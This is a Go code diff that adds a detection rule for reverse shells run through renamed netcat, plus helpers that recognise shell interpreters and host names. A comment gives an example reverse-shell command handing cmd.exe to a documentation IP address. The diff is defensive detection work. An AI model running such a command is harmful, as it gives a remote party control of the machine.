@@ -162,6 +162,29 @@ var reverseShellRules = []*rule{
 			}
 			return false, ""
 		}},
+	{ID: "revshell-renamed-netcat", Level: LevelCritical, Category: CategoryReverseShell, Description: "a program given an address, a port and a shell to run (netcat's -e under another name)",
+		Suggestions: suggRevShell,
+		match: func(a *analysis, c *cmd) (bool, string) {
+			// n.exe 198.51.100.8 443 -e cmd.exe: whatever the program is
+			// called, these arguments hand a shell to a remote host
+			args := c.args()
+			shell, host, port := "", false, false
+			for i, w := range args {
+				l := lower(strings.Trim(w.s, `"'`))
+				switch {
+				case (l == "-e" || l == "--exec" || l == "-c") && i+1 < len(args) && shellProgram(lower(strings.Trim(args[i+1].s, `"'`))):
+					shell = args[i+1].s
+				case allDigits(l) && len(l) <= 5 && l != "":
+					port = true
+				case hostLike(l):
+					host = true
+				}
+			}
+			if shell != "" && host && port {
+				return true, shell
+			}
+			return false, ""
+		}},
 	{ID: "revshell-socat-exec", Level: LevelCritical, Category: CategoryReverseShell, Description: "socat connecting a program to the network",
 		Suggestions: suggRevShell, names: names("socat"),
 		match: func(a *analysis, c *cmd) (bool, string) {
@@ -266,3 +289,43 @@ func loopbackNetDev(p string) bool {
 // harmlessExec are programs ncat --exec may serve that give the peer no
 // command: an echo server, a sink.
 var harmlessExec = map[string]bool{"/bin/cat": true, "/usr/bin/cat": true, "cat": true, "/bin/true": true, "/usr/bin/true": true, "true": true}
+
+// shellProgram reports a command interpreter named as a program to run
+// (lower case): cmd.exe, powershell, /bin/sh, bash.
+func shellProgram(p string) bool {
+	if i := strings.LastIndexAny(p, `/\`); i >= 0 {
+		p = p[i+1:]
+	}
+	p = strings.TrimSuffix(p, ".exe")
+	switch p {
+	case "cmd", "powershell", "pwsh", "sh", "bash", "zsh", "dash", "ash", "ksh":
+		return true
+	}
+	return false
+}
+
+// hostLike reports a word (lower case) that names a host: an IP address,
+// or a dotted name whose last label is a top-level domain rather than a
+// file's extension.
+func hostLike(l string) bool {
+	if _, ok := parseIP(l); ok {
+		return true
+	}
+	if strings.HasPrefix(l, "-") || strings.ContainsAny(l, `/\=:*?$%`) || strings.Count(l, ".") == 0 {
+		return false
+	}
+	tld := l[strings.LastIndexByte(l, '.')+1:]
+	if len(tld) < 2 || len(tld) > 6 {
+		return false
+	}
+	for _, r := range tld {
+		if r < 'a' || r > 'z' {
+			return false
+		}
+	}
+	switch tld {
+	case "exe", "dll", "txt", "log", "json", "yaml", "yml", "xml", "ps1", "bat", "cmd", "sh", "py", "js", "ts", "md", "csv", "zip", "gz", "tar", "conf", "ini", "cfg", "sql", "db", "bak", "tmp", "out", "msi", "jar", "go", "rs", "rb", "pl", "php", "html", "css", "png", "jpg", "pem", "key", "crt":
+		return false
+	}
+	return true
+}
